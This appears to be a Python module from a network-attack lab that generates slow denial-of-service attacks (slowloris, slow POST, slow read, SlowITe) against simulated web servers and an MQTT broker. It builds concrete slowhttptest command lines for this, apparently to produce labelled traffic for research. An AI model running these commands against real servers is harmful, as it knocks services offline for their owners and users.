"""Connections to a web server or broker that are kept open by as little as possible."""

from __future__ import annotations

import dataclasses

from lab.attacks.scene import Scene, bot_attack
from lab.attacks.technique import technique
from lab.plan import Attack


@technique("slow_dos", mitre="T1499.002", tool="lab.bots", per_s=(5.0, 60.0), needs=("web", "small_web", "mqtt"))
def slow_dos(scene: Scene) -> Attack:
    """Connections to a web server or broker that are kept open by as little as possible."""
    kind, service = scene.rng.choice(
        [("slow_headers", "web"), ("slow_headers", "small_web"), ("slow_body", "web"), ("slow_mqtt", "mqtt")]
    )
    attack = bot_attack(
        scene,
        kind,
        service=service,
        label="slow_dos",
        mitre="T1499.002",
        least_per_s=5,
        most_per_s=60,
        most=250,
        hold=scene.between(15, 30),
    )
    return dataclasses.replace(attack, limit_s=35.0)


def _slow_http_test(scene: Scene, name: str, *options: object) -> Attack:
    """Draw a slow attack by slowhttptest against a home device's web server."""
    attacker = scene.attacker()
    victim, found = scene.victim(scene.rng.choice(["web", "small_web"]), attacker=attacker)
    length_s, per_s = int(scene.between(12, 30)), max(1, round(scene.between(1, 50)))
    argv = (
        "slowhttptest",
        *map(str, options),
        "-c",
        str(min(200, per_s * length_s)),
        "-r",
        str(per_s),
        "-i",
        str(scene.rng.randint(1, 8)),
        "-l",
        str(length_s),
        "-v",
        "0",
        "-u",
        f"http://{victim.address}:{found.port}/index.html",
    )
    return Attack(
        technique=name,
        label="slowhttptest",
        mitre="T1499.002",
        attacker=attacker.name,
        victim=victim.name,
        starts_s=0.0,
        limit_s=length_s + 10.0,
        argv=argv,
        proto="tcp",
        ports=(found.port,),
    )


SLOW_HTTP = technique(
    "slowhttptest", mitre="T1499.002", tool="slowhttptest", per_s=(1.0, 50.0), needs=("web", "small_web")
)


@SLOW_HTTP
def slowloris(scene: Scene) -> Attack:
    """slowhttptest with headers that never end."""
    return _slow_http_test(scene, "slowloris", "-H", "-x", scene.rng.randint(4, 40))


@SLOW_HTTP
def slow_post(scene: Scene) -> Attack:
    """slowhttptest with bodies that come in crumbs."""
    return _slow_http_test(scene, "slow_post", "-B", "-s", scene.rng.choice([4096, 8192, 65536]))


@SLOW_HTTP
def slow_read(scene: Scene) -> Attack:
    """slowhttptest with answers that are read a few bytes at a time through a small window."""
    window = scene.rng.choice([1, 10, 64])
    return _slow_http_test(scene, "slow_read", "-X", "-w", window, "-y", window + 200, "-n", 2, "-z", 8, "-k", 3)


@technique("slowite", mitre="T1499.002", tool="lab.bots", per_s=(0.5, 40.0), needs=("mqtt",))
def slowite(scene: Scene) -> Attack:
    """Sessions at a broker that ask for a long keep-alive and then say nothing (SlowITe)."""
    attack = bot_attack(
        scene,
        "silent_mqtt",
        service="mqtt",
        label="slowite",
        mitre="T1499.002",
        least_per_s=0.5,
        most_per_s=40,
        most=180,
        hold=scene.between(12, 30),
    )
    return dataclasses.replace(attack, limit_s=35.0)
